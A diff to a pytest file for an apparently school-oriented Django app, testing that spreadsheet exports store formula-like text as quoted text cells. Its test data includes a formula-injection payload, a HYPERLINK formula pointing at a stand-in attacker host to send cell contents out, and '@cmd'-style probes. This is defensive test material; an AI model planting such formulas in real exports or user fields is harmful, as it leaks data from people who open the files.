@@ -29,16 +29,23 @@ FORMULAS = [
 ]
 
 
+def _sheet():  # noqa: ANN202
+    from openpyxl import Workbook
+
+    return Workbook(write_only=True).create_sheet("t")
+
+
 @pytest.mark.parametrize("text", FORMULAS)
-def test_text_that_would_run_as_a_formula_is_quoted(text):
-    assert safe_cell(text) == "'" + text
+def test_text_that_would_run_as_a_formula_becomes_a_quoted_text_cell_with_the_same_text(text):
+    cell = safe_cell(text, _sheet())
+    assert (cell.value, cell.data_type, cell.quotePrefix) == (text, "s", True)
 
 
 @pytest.mark.parametrize(
     "value", [-3, -2.5, 0, 12, "李小雨", "初一(1)班 = 好", "", None, date(2026, 9, 1), True]
 )
 def test_other_values_are_left_alone(value):
-    assert safe_cell(value) == value
+    assert safe_cell(value, _sheet()) == value
 
 
 def test_an_export_stores_formula_text_as_text_and_numbers_as_numbers():
@@ -46,11 +53,12 @@ def test_an_export_stores_formula_text_as_text_and_numbers_as_numbers():
     response = xlsx_response("t.xlsx", [("表", ["=标题", "数"], rows)])
     sheet = load_workbook(io.BytesIO(response.content)).active
     header = [c for c in next(sheet.iter_rows(min_row=1, max_row=1))]
-    assert header[0].value == "'=标题"
+    assert (header[0].value, header[0].data_type, header[0].quotePrefix) == ("=标题", "s", True)
     cells = list(next(sheet.iter_rows(min_row=2, max_row=2)))
-    assert [c.value for c in cells] == ["'=SUM(A1)", -3, "'-3", "'@cmd", "正常"]
-    assert cells[0].data_type == "s"  # a string, not a formula ("f")
-    assert cells[1].data_type == "n"
+    # The exact text, no apostrophe added to the data; shown and edited as text.
+    assert [c.value for c in cells] == ["=SUM(A1)", -3, "-3", "@cmd", "正常"]
+    assert [c.data_type for c in cells] == ["s", "n", "s", "s", "s"]  # a string, never a formula ("f")
+    assert [c.quotePrefix for c in cells] == [True, False, True, True, False]
 
 
 @pytest.mark.django_db
@@ -69,9 +77,9 @@ def test_gate_visitor_export_does_not_carry_a_formula_typed_into_a_name(cast, lo
     sheet = load_workbook(io.BytesIO(response.content))["来访登记"]
     values = [c for row in sheet.iter_rows(min_row=2) for c in row]
     assert all(c.data_type != "f" for c in values)
-    texts = [c.value for c in values if isinstance(c.value, str)]
-    assert '\'=HYPERLINK("http://evil.example/?"&B3,"点此")' in texts
-    assert not any(t.startswith(("=", "+", "-", "@")) for t in texts)
+    risky = [c for c in values if isinstance(c.value, str) and c.value.startswith(("=", "+", "-", "@"))]
+    assert '=HYPERLINK("http://evil.example/?"&B3,"点此")' in [c.value for c in risky]
+    assert all(c.data_type == "s" and c.quotePrefix for c in risky)
 
 
 def test_every_workbook_in_the_code_goes_through_safe_cell():
